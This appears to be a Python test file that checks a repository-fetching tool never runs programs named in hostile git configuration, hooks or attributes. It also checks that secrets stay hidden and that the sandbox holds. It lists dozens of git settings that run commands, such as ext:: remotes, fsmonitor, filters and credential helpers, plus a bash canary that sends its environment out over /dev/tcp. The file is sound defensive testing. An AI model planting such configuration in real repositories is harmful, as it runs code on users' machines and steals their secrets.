"""Tests repositories whose configuration names programs. None of the programs may run, even if a sandbox would contain
them."""

import os
import shutil
import socket
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.build.repositories.git_server import serving
from tests.build.repositories.test_checkout import committed, git
from xkg.build.repositories.checkout import Checkout, fetch_repository, read_folder
from xkg.errors import InputError
from xkg.sandbox.isolation import programs
from xkg.sandbox.runner import Limits

_HOOKS = "post-checkout post-index-change reference-transaction fsmonitor-watchman pre-auto-gc post-merge".split()
_CONFIG = """
[core]
    fsmonitor = {run}
    hooksPath = {folder}/hooks
    sshCommand = {run}
    pager = {run}
    editor = {run}
    askPass = {run}
    gitProxy = {run}
    alternateRefsCommand = {run}
    attributesFile = {folder}/attributes
    excludesFile = {folder}/excludes
[pager]
    show = {run}
    log = {run}
    ls-files = {run}
    ls-tree = {run}
[alias]
    show = !{run}
    ls-tree = !{run}
    ls-files = !{run}
    cat-file = !{run}
[diff]
    external = {run}
[diff "evil"]
    command = {run}
    textconv = {run}
    cachetextconv = false
[filter "evil"]
    clean = {run}
    smudge = {run}
    process = {run}
    required = true
[merge "evil"]
    driver = {run}
[credential]
    helper = !{run}
[gpg]
    program = {run}
[gpg "ssh"]
    program = {run}
    defaultKeyCommand = {run}
[gpg "x509"]
    program = {run}
[log]
    showSignature = true
[include]
    path = {folder}/included
[includeIf "gitdir:**"]
    path = {folder}/included
[uploadpack]
    packObjectsHook = {run}
[remote "origin"]
    url = ext::{run}
    vcs = evil
    uploadpack = {run}
    promisor = true
    partialCloneFilter = blob:none
    proxy = http://127.0.0.1:{port}
[url "ext::{run} "]
    insteadOf = https://
    insteadOf = file://
[protocol]
    allow = always
[protocol "ext"]
    allow = always
[trailer "evil"]
    command = {run}
    cmd = {run}
[submodule "evil"]
    url = ext::{run}
    update = !{run}
[extensions]
    partialClone = origin
    worktreeConfig = true
[interactive]
    diffFilter = {run}
[init]
    templateDir = {folder}
[http]
    proxy = http://127.0.0.1:{port}
"""


class Trap:
    """A program that leaves traces when it runs. It writes to a file, connects to the network, and stores its
    environment."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.mark = folder / "mark"
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.listener.setblocking(False)
        self.port = self.listener.getsockname()[1]
        self.run = folder / "run"
        (folder / "hooks").mkdir(parents=True)
        folder.chmod(0o777)
        script = f"#!/bin/bash\nenv >>{self.mark}\nexec 3<>/dev/tcp/127.0.0.1/{self.port}\nenv >&3\n"
        for path in (self.run, folder / "git-remote-evil", *(folder / "hooks" / name for name in _HOOKS)):
            path.write_text(script)
            path.chmod(0o755)
        self.config = _CONFIG.format(run=self.run, folder=folder, port=self.port)
        (folder / "included").write_text(self.config.replace("[include", "[no"))
        (folder / "attributes").write_text("* filter=evil diff=evil merge=evil\n")

    def sprung(self) -> str:
        """Returns the environment that the program saw, or "" if it never ran."""
        try:
            self.listener.accept()[0].close()
        except BlockingIOError:
            return self.mark.read_text() if self.mark.exists() else ""
        return "it reached the network"


@pytest.fixture
def trap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Trap]:
    set_trap = Trap(tmp_path / "trap")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret")
    monkeypatch.setenv("PATH", f"{os.environ['PATH']}:{set_trap.folder}")
    with set_trap.listener:
        yield set_trap


BEHIND_BOTH = pytest.mark.product("each wall × each hostile repository")


@pytest.fixture(params=[*(pytest.param(name, marks=BEHIND_BOTH) for name in ("bubblewrap", "landlock")), None])
def wall(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    """Runs the test in each sandbox and without one, because git must always ignore the configuration."""
    monkeypatch.setattr(programs, "wall", lambda: request.param)


def hostile(folder: Path, trap: Trap) -> Path:
    """Creates a work tree with a commit that claims to be signed, a missing blob, hooks, attributes and the whole
    configuration."""
    files = {
        "a.py": "def f():\n    return 1\n",
        "gone.py": "def gone():\n    return 1\n",
        ".gitattributes": "* filter=evil diff=evil merge=evil\n",
        ".gitmodules": '[submodule "evil"]\n\tpath = evil\n\turl = ext::x\n\tupdate = !x\n',
    }
    committed(folder, files)
    tree, author = git(folder, "rev-parse", "HEAD^{tree}"), "E <e@example.org> 1700000000 +0000"
    signed = f"tree {tree}\nauthor {author}\ncommitter {author}\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n x\n"
    signed += " -----END PGP SIGNATURE-----\n\nsigned\n"
    (folder.parent / "commit").write_text(signed)
    commit = git(folder, "hash-object", "-t", "commit", "-w", str(folder.parent / "commit"))
    (folder.parent / "commit").unlink()
    git(folder, "update-ref", "refs/heads/main", commit)
    absent = git(folder, "rev-parse", "HEAD:gone.py")
    (folder / ".git" / "objects" / absent[:2] / absent[2:]).unlink()
    arm(folder / ".git", trap)
    return folder


def arm(directory: Path, trap: Trap) -> None:
    (directory / "config").write_text((directory / "config").read_text() + trap.config)
    (directory / "config.worktree").write_text(trap.config)
    (directory / "info").mkdir(exist_ok=True)
    (directory / "info" / "attributes").write_text("* filter=evil diff=evil merge=evil\n")
    shutil.copytree(trap.folder / "hooks", directory / "hooks", dirs_exist_ok=True)


def a_folder(base: Path, trap: Trap) -> Path:
    return hostile(base / "tree", trap)


def a_changed_folder(base: Path, trap: Trap) -> Path:
    folder = hostile(base / "tree", trap)
    (folder / "a.py").write_text("def f():\n    return 2\n")
    (folder / "sub").mkdir()
    (folder / "sub" / ".gitignore").write_text("*.log\n")
    return folder


def a_bare_directory(base: Path, trap: Trap) -> Path:
    hostile(base / "tree", trap)
    return (base / "tree" / ".git").rename(base / "bare.git")


def a_git_directory(base: Path, trap: Trap) -> Path:
    return hostile(base / "tree", trap) / ".git"


def a_linked_work_tree(base: Path, trap: Trap) -> Path:
    folder = hostile(base / "main", trap)
    config = folder / ".git" / "config"
    armed = config.read_text()
    config.write_text(armed.replace(trap.config, ""))
    (folder / ".git" / "config.worktree").unlink()
    shutil.rmtree(folder / ".git" / "hooks")
    git(folder, "worktree", "add", "-q", "--no-checkout", "--detach", str(base / "linked"))
    config.write_text(armed)
    (folder / ".git" / "worktrees" / "linked" / "config.worktree").write_text(trap.config)
    shutil.copytree(trap.folder / "hooks", folder / ".git" / "hooks")
    return base / "linked"


def a_bare_directory_inside_a_tree(base: Path, trap: Trap) -> Path:
    outer = base / "outer"
    outer.mkdir()
    git(outer, "init", "-q")
    hostile(base / "tree", trap)
    return (base / "tree" / ".git").rename(outer / "data")


def a_tree_with_repositories_inside(base: Path, trap: Trap) -> Path:
    outer = base / "outer"
    outer.mkdir()
    git(outer, "init", "-q")
    (outer / "a.py").write_text("def f():\n    return 1\n")
    hostile(outer / "nested", trap)
    hostile(base / "tree", trap)
    (base / "tree" / ".git").rename(outer / "bare")
    return outer


PLACES = [
    a_folder,
    a_changed_folder,
    a_bare_directory,
    a_git_directory,
    a_linked_work_tree,
    a_bare_directory_inside_a_tree,
    a_tree_with_repositories_inside,
]


@pytest.mark.usefixtures("wall")
@pytest.mark.parametrize("place", PLACES, ids=lambda place: place.__name__)
def test_nothing_a_repository_names_is_run(place: Callable[[Path, Trap], Path], trap: Trap, tmp_path: Path) -> None:
    folder = place(tmp_path, trap)
    assert trap.sprung() == ""
    seen = [*everything(folder, tmp_path)]
    assert trap.sprung() == ""
    assert any(b"def f" in (content or b"") for content in seen) or place is a_bare_directory_inside_a_tree


def everything(folder: Path, base: Path) -> Iterator[bytes | None]:
    """Reads the content of a folder in every possible way."""
    for spec in (str(folder), f"{folder}@HEAD", f"{folder}@main", folder.as_uri()):
        yield from contents(lambda spec=spec: fetch_repository(spec, base / "cache"))  # type: ignore[misc]
    yield from contents(lambda: read_folder(folder))


def contents(read: Callable[[], Checkout]) -> Iterator[bytes | None]:
    try:
        checkout = read()
    except InputError:
        return
    yield from (content for _, content in checkout.read([f.path for f in checkout.files]))


@pytest.mark.usefixtures("wall")
def test_an_address_is_fetched_without_what_lies_around(
    trap: Trap, repository: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The command runs in a hostile folder, and the user's own git settings are hostile too."""
    monkeypatch.chdir(hostile(tmp_path / "around", trap))
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "core.askPass")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", str(trap.run))
    monkeypatch.setenv("GIT_SSH_COMMAND", str(trap.run))
    monkeypatch.setenv("GIT_PROXY_COMMAND", str(trap.run))
    (tmp_path / ".gitconfig").write_text(trap.config)
    (tmp_path / ".netrc").write_text("machine localhost login me password netrc-secret\n")
    with serving(monkeypatch) as server:
        url = server.add(repository)
        checkout = fetch_repository(url, tmp_path / "cache")
        assert dict(checkout.read(["a.py"]))["a.py"] == b"x = 1\n"
        with pytest.raises(InputError, match="cannot be reached"):
            fetch_repository(f"{server.url}/not/there", tmp_path / "cache")
    assert trap.sprung() == ""
    kept = [path for path in (tmp_path / "cache").rglob("*") if path.is_file()]
    assert {path.suffix or path.name for path in kept} <= {".pack", ".idx", ".rev", "HEAD", "config", "shallow"}
    assert all(path.stat().st_uid == os.geteuid() for path in kept)


@pytest.mark.usefixtures("wall")
def test_a_redirect_leads_to_no_other_host(repository: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The other host is reachable, because it is another name for the same machine."""
    with serving(monkeypatch) as listed, serving(monkeypatch) as unlisted:
        url = listed.add(repository)
        unlisted.add(repository)
        listed.elsewhere = unlisted.url
        for reference in ("", "@main", f"@{'1' * 40}"):
            with pytest.raises(InputError, match="redirects to another host, localhost") as caught:
                fetch_repository(url + reference, tmp_path / "cache")
            assert "\n" not in str(caught.value)
        assert listed.asked
        assert unlisted.asked == []
        listed.elsewhere = ""
        listed.repositories["new/name"] = listed.repositories["owner/name"]
        assert fetch_repository(f"{listed.url}/new/name", tmp_path / "cache").files


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    return committed(tmp_path / "plain", {"a.py": "x = 1\n"})


def test_git_has_no_variable_of_ours(repository: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[dict[str, str]] = []
    ran = programs.run

    def watched(program: programs.Program, given: bytes = b"") -> programs.ProgramResult:
        seen.append(dict(program.variables))
        asked = programs.Program(("/usr/bin/env",), program.folder, program.limits, program.variables)
        seen.append({"all": ran(asked).output.decode()})
        return ran(program, given)

    monkeypatch.setattr("xkg.build.repositories.git.run", watched)
    for name in ("OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "GIT_TRACE", "LD_PRELOAD_X", "HTTPS_PROXY_PASSWORD"):
        monkeypatch.setenv(name, "sk-secret")
    fetch_repository(str(repository), tmp_path / "cache")
    read_folder(repository)
    assert len(seen) >= 6
    assert "sk-secret" not in str(seen)


@pytest.mark.parametrize("behind", ["bubblewrap", "landlock"])
def test_a_program_of_git_is_contained_even_if_it_runs(behind: programs.Wall, monkeypatch: pytest.MonkeyPatch) -> None:
    """Tests the sandbox alone: git runs without its own protections in a hostile repository."""
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret")
    with tempfile.TemporaryDirectory() as name:
        base = Path(name)
        base.chmod(0o755)
        trap = Trap(base / "trap")
        with trap.listener:
            folder = hostile(base / "tree", trap)
            trap.mark.touch()
            trap.mark.chmod(0o666)
            command = ("/usr/bin/git", "-c", "safe.directory=*", "-c", f"gpg.program={trap.run}", "show")
            kept = {"GIT_CONFIG_NOSYSTEM": "1"}
            asked = programs.Program(command, folder, Limits(seconds=30), kept, reads=(folder, trap.folder))
            ran = programs.run(asked, behind=behind)
            assert f"{trap.mark}: " in ran.stderr  # the program ran, but could not write
            assert f"/dev/tcp/127.0.0.1/{trap.port}: " in ran.stderr
            assert trap.sprung() == ""
            assert b"sk-secret" not in ran.output
